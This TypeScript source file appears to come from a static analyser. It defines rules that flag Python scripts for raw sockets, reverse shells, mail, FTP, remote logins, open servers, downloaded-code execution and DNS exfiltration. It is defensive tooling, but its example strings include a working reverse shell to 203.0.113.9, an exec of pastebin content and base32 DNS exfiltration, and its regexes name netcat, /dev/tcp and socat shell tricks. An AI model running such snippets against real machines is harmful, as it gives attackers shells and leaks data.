/** Protocols besides web requests: sockets, mail, files, remote sessions, servers, and code from the network. */
import { argument, type CallEvent } from '../flow/values.ts';
import { isLocalHost } from '../network.ts';
import { anyOf } from './command-patterns.ts';
import { droppedPrograms, isFetched } from './dropped-programs.ts';
import { producedBy } from './produced.ts';
import { readData } from './read-data.ts';
import { type BehaviourRule, callRule } from './rule.ts';

/** What comes in over a connection. */
const receives =
  /\.recv(?:from|_into|_string|_json)?$|^(?:socket|asyncio|websockets?|telnetlib)\b.*\.(?:read|readline|readuntil|readexactly|makefile|read_until)$/;

/** What runs the text, code or program that it is given. */
const runsContent =
  /^(?:exec|eval|compile|builtins\.exec|os\.(?:system|popen|startfile|exec[lv]\w*)|subprocess\.(?:run|call|check_call|check_output|Popen|getoutput|getstatusoutput)|(?:marshal|pickle|dill)\.loads|types\.FunctionType|runpy\.run_path)$/;

/** How many bytes of a program's output are read is no command, and only a shell runs what it is told. */
function mayRun({ path, receiver }: CallEvent): boolean {
  if (/\.(?:stdout|stderr)\./.test(path)) return false;
  if (!path.includes('.stdin.')) return true;
  const program = receiver?.producer?.args[0];
  return shell.test(program?.text ?? program?.items?.[0]?.text ?? '');
}

const shell = /(?:^|[/\\])(?:\w{0,3}sh|cmd|powershell|pwsh|python[\d.]*)(?:\.exe)?(?=$|\s)/i;

const shellOverNetwork = anyOf(
  /\/dev\/(?:tcp|udp)\/[^\s/]+\/\S+/,
  /\b(?:nc|ncat|netcat)(?:\.exe)?\b.*\s(?:-\w*[ec]\s+\S*(?:sh|cmd(?:\.exe)?|powershell)|--(?:sh-)?exec)\b/,
  /\bmkfifo\b.*\|.*\b(?:nc|ncat|netcat|openssl\s+s_client)\b|\bsocat\b.*\bexec:/,
  /Net\.Sockets\.TCPClient\b.*(?:GetStream|iex|Invoke-Expression)/,
);

const remoteSession = anyOf(
  /(?:^|[;&|(]\s*|\bsudo\s+(?:-\S+\s+)*|\/)(?:ssh|scp|sftp|sshpass|plink|pscp|psftp|psexec(?:64)?|winrs|rsh|mosh|autossh)(?:\.exe)?["']?\s/,
  /(?:^|[;&|(]\s*|\bsudo\s+)rsync\s.*(?:\w:(?!\\)|-e\s+["']?ssh)/,
  /\b(?:Enter|New)-PSSession\b|\bInvoke-Command\b.*-(?:ComputerName|Cn|HostName)\b|\bwmic(?:\.exe)?\b.*\/node:|\bansible(?:-playbook)?\s+\S/,
);

export const rules: readonly BehaviourRule[] = [
  callRule({
    id: 'PYS-NET-007',
    category: 'network',
    title: 'Speaks over raw sockets',
    severity: 'low',
    confidence: 'medium',
    rationale: 'A raw socket carries any protocol, which a proxy does not see into.',
    remediation: 'Use a protocol library over TLS.',
    example: 'import socket\ns = socket.socket()\ns.connect(("files.partner-site.com", 9000))',
    message: 'Connects or listens on a raw socket',
    calls: [
      'socket.socket().connect',
      'socket.socket().bind',
      'socket.create_connection',
      'socket.socket().connect_ex',
      'socket.create_server',
    ],
    when: (call) => !isLocalHost(call.args[0]?.items?.[0]?.text ?? ''),
  }),
  {
    id: 'PYS-NET-008',
    category: 'network',
    title: 'Gives a shell to a remote host',
    severity: 'critical',
    confidence: 'high',
    cwe: 912,
    rationale: 'The script ties a socket to a shell or to the output of commands: a reverse shell.',
    remediation: 'Isolate the machine and find out who put the script there.',
    example:
      'import socket, os, subprocess\ns = socket.socket()\ns.connect(("203.0.113.9", 4444))\nos.dup2(s.fileno(), 0)\nsubprocess.call(["/bin/sh", "-i"])',
    calls: [
      'os.dup2',
      'pty.spawn',
      'subprocess.*',
      'os.popen',
      'os.system',
      'exec',
      'eval',
      'asyncio.create_subprocess_shell',
      'asyncio.create_subprocess_exec',
    ],
    onCall: (call) => {
      const [given] = call.args;
      const received = given !== undefined && mayRun(call) && producedBy(given, receives);
      const duplicated =
        call.path === 'os.dup2' &&
        given !== undefined &&
        /^(?:[012]|sys\.std(?:in|out|err)\.fileno\(\))$/.test(call.args[1]?.path ?? '') &&
        producedBy(given, /^socket\.(?!socketpair\b).*\.fileno$/);
      const tied = call.keywords.some(
        ({ name, value }) =>
          /^std(?:in|out)$/.test(name) && producedBy(value, /^socket\.(?:socket|create_connection)$/),
      );
      if (received) return { message: 'Runs commands that arrive over a socket' };
      return duplicated || tied ? { message: 'Ties standard streams to a socket' } : undefined;
    },
    onCommand: ({ text }) =>
      shellOverNetwork.test(text) ? { message: 'Gives a shell to a remote host' } : undefined,
    onText: ({ text }) =>
      text.length < 5000 &&
      (text.includes('/dev/tcp/') || text.includes('TCPClient')) &&
      shellOverNetwork.test(text)
        ? { message: 'Gives a shell to a remote host' }
        : undefined,
  },
  {
    id: 'PYS-NET-009',
    category: 'network',
    title: 'Sends mail',
    severity: 'low',
    confidence: 'high',
    rationale:
      'The script sends mail by itself; attachments and bodies leave the organisation if the recipients are outside.',
    remediation: 'Send through the organisation’s relay, with fixed recipients.',
    example:
      'import smtplib\nsmtplib.SMTP("mail.corp.local").sendmail("a@corp.local", ["b@corp.local"], "text")',
    calls: [
      'smtplib.SMTP().sendmail',
      'smtplib.SMTP().send_message',
      'smtplib.SMTP_SSL().sendmail',
      'smtplib.SMTP_SSL().send_message',
      'yagmail.SMTP().send',
      'aiosmtplib.send',
      'exchangelib.Message().send',
      'exchangelib.Message().send_and_save',
      'redmail.gmail.send',
      'redmail.EmailSender().send',
      'django.core.mail.send_mail',
      'sendgrid.SendGridAPIClient().send',
      '*.CreateItem().Send',
      '*.sendmail',
      'O365.Account().new_message().send',
      'flask_mail.Mail().send',
      'django.core.mail.EmailMessage().send',
      'django.core.mail.EmailMultiAlternatives().send',
      'django.core.mail.send_mass_mail',
      'resend.Emails.send',
      'postmarker.core.PostmarkClient().emails.send',
      'mailjet_rest.Client().send.create',
      'emails.Message().send',
      'emails.html().send',
      'aiosmtplib.SMTP().send_message',
      'redmail.outlook.send',
      'RPA.Email.ImapSmtp.ImapSmtp().send_message',
      'RPA.Email.Exchange.Exchange().send_message',
      'RPA.Outlook.Application.Application().send_message',
      '*.send_raw_email',
      '*.send_email',
      '*.messages().send',
    ],
    onCall: (call) => {
      const sent = readData(
        [call.receiver, ...call.args].flatMap((value) => (value === undefined ? [] : [value])),
      );
      if (sent === undefined) return { message: 'Sends mail' };
      return {
        message: `Sends mail with data that it read (${sent})`,
        severity: 'medium',
        details: { source: sent },
      };
    },
    onCommand: ({ text }) =>
      /(?:^|[\s;&|(/])(?:mailx?\s+(?:-\w+\s+\S+\s+)*-s\s|mutt\s+.*-s\s|sendmail\s+(?:-t\b|\S+@)|swaks\s|msmtp\s)|\bSend-MailMessage\b/.test(
        text,
      )
        ? { message: 'Sends mail' }
        : undefined,
    onHost: ({ endpoint, direction }) =>
      direction === 'upload' && endpoint.host === 'graph.microsoft.com' && /\/sendMail$/i.test(endpoint.path)
        ? { message: 'Sends mail' }
        : undefined,
  },
  {
    id: 'PYS-NET-010',
    category: 'network',
    title: 'Transfers files with FTP',
    severity: 'medium',
    confidence: 'high',
    cwe: 319,
    rationale: 'FTP sends the password and the files in clear.',
    remediation: 'Use SFTP or FTPS.',
    example: 'import ftplib\nftplib.FTP("ftp.partner-site.com", "user", pw).storbinary("STOR a.csv", f)',
    calls: [
      'ftplib.FTP',
      'ftputil.FTPHost',
      'aioftp.Client',
      'aioftp.Client.context',
      'telnetlib.Telnet',
      'telnetlib3.open_connection',
      'tftpy.TftpClient',
    ],
    onCall: () => ({ message: 'Uses FTP, which is not encrypted' }),
    onCommand: ({ text }) =>
      /(?:^|[\s;&|(/])(?:ftp|lftp|tftp|ncftpput|ncftpget|telnet)(?:\.exe)?\s+(?:-\w|[\w.]+\.\w)/.test(text)
        ? { message: 'Uses FTP, which is not encrypted' }
        : undefined,
    onHost: ({ endpoint, direction }) =>
      endpoint.scheme === 'ftp' && direction !== 'named'
        ? { message: 'Uses FTP, which is not encrypted' }
        : undefined,
  },
  {
    id: 'PYS-NET-011',
    category: 'network',
    title: 'Logs in to other machines',
    severity: 'low',
    confidence: 'high',
    rationale: 'The script opens sessions on other machines and runs commands or copies files there.',
    remediation: 'Use key-based accounts with the least rights, and check host keys.',
    example: 'import paramiko\nparamiko.SSHClient().connect("srv01.corp.local")',
    calls: [
      'paramiko.SSHClient().connect',
      'paramiko.Transport',
      'pysftp.Connection',
      'fabric.Connection',
      'asyncssh.connect',
      'netmiko.ConnectHandler',
      'winrm.Session',
      'winrm.Protocol',
      'pypsexec.client.Client',
      'pexpect.pxssh.pxssh().login',
      'smb.SMBConnection.SMBConnection',
      'smbclient.open_file',
      'impacket.smbconnection.SMBConnection',
      'smbclient.register_session',
      'wmi.WMI',
      'paramiko.Transport().connect',
      'netmiko.ConnectHandler',
      'napalm.get_network_driver',
      'scrapli.Scrapli',
      'spur.SshShell',
      'pssh.clients.ParallelSSHClient',
      'ansible_runner.run',
      'pypsrp.client.Client',
      'pypsrp.wsman.WSMan',
      'rpyc.connect',
      'rpyc.classic.connect',
      'impacket.dcerpc.v5.transport.DCERPCTransportFactory',
      'impacket.examples.secretsdump.RemoteOperations',
      'sshtunnel.SSHTunnelForwarder',
      'fabric.SerialGroup',
      'fabric.ThreadingGroup',
      'smbclient.shutil.copyfile',
      '*.ConnectServer',
    ],
    onCall: (call) => {
      if (call.path === 'wmi.WMI' && argument(call, 0, 'computer') === undefined) return undefined;
      if (call.name === 'ConnectServer' && /^(?:\.|localhost)?$/.test(call.args[0]?.text ?? ''))
        return undefined;
      // Each library is a fact of its own.
      const library = call.path.startsWith('?') ? '' : ` (${call.path.split('.', 1)[0]})`;
      return { message: `Opens a session on another machine${library}` };
    },
    onCommand: ({ text }) =>
      remoteSession.test(text) ? { message: 'Opens a session on another machine' } : undefined,
  },
  callRule({
    id: 'PYS-NET-015',
    category: 'network',
    title: 'Serves on all network interfaces',
    severity: 'low',
    confidence: 'high',
    cwe: 668,
    rationale:
      'Everyone in the network can reach the server, often a development server without authentication.',
    remediation: 'Bind to localhost, or put an authenticating proxy in front.',
    example: 'from flask import Flask\napp = Flask(__name__)\napp.run(host="0.0.0.0")',
    message: 'Listens on all interfaces',
    calls: [
      '*.run',
      'uvicorn.run',
      'http.server.HTTPServer',
      'socketserver.TCPServer',
      'waitress.serve',
      '*.launch',
      '*.bind',
      'asyncio.start_server',
      'http.server.ThreadingHTTPServer',
    ],
    when: (call) => {
      const host = argument(call, -1, 'host', 'server_name')?.text ?? call.args[0]?.items?.[0]?.text;
      return host === '0.0.0.0' || host === '::' || (host === '' && /(?:Server|bind)$/.test(call.path));
    },
  }),
  {
    id: 'PYS-NET-016',
    category: 'network',
    title: 'Runs code that it downloads',
    severity: 'high',
    confidence: 'high',
    cwe: 494,
    rationale:
      'Text fetched from the network is executed. Whoever controls the host, or the connection to it, controls this machine.',
    remediation: 'Ship the code with the script, or verify a signature before running it.',
    example: 'import requests\nexec(requests.get("https://pastebin.com/raw/x").text)',
    calls: [
      'exec',
      'eval',
      'compile',
      'os.system',
      'os.popen',
      'os.startfile',
      'os.exec*',
      'subprocess.*',
      'marshal.loads',
      'pickle.loads',
      'dill.loads',
      'types.FunctionType',
      'runpy.run_path',
      'builtins.exec',
    ],
    onCall: (call) => {
      const [given] = call.args;
      return given !== undefined && runsContent.test(call.path) && isFetched(given)
        ? { message: `Passes downloaded content to ${call.path}` }
        : undefined;
    },
    onModule: droppedPrograms,
  },
  {
    id: 'PYS-NET-017',
    category: 'network',
    title: 'Puts data into names that it looks up',
    severity: 'high',
    confidence: 'medium',
    cwe: 200,
    rationale: 'Queries for names leave nearly every network; data in them goes to whoever owns the domain.',
    remediation: 'Find out who owns the domain, and what was sent.',
    example:
      'import base64, socket\nfor part in parts:\n    socket.gethostbyname(f"{base64.b32encode(part).decode()}.data.partner-site.com")',
    calls: [
      'socket.gethostbyname',
      'socket.gethostbyname_ex',
      'socket.getaddrinfo',
      'dns.resolver.resolve',
      'dns.resolver.query',
      'dns.resolver.Resolver().resolve',
      'dns.resolver.Resolver().query',
      'dns.message.make_query',
    ],
    onCall: (call, facts) => {
      const [name] = call.args;
      const node = call.nodes[0];
      if (name?.text === undefined || node === undefined || !/^\{\}[\w.{}-]*\.[a-z]{2,}\.?$/.test(name.text))
        return undefined;
      const meant = facts.folder().meant(node, call.start);
      const source = facts.module.text.slice(meant.start, Math.min(meant.end, meant.start + 400));
      return readData([name]) !== undefined ||
        /(?:b32|b64|b16|urlsafe_b64|hex)(?:encode|lify)?\(/.test(source)
        ? { message: 'Puts data into names that it looks up' }
        : undefined;
    },
  },
];
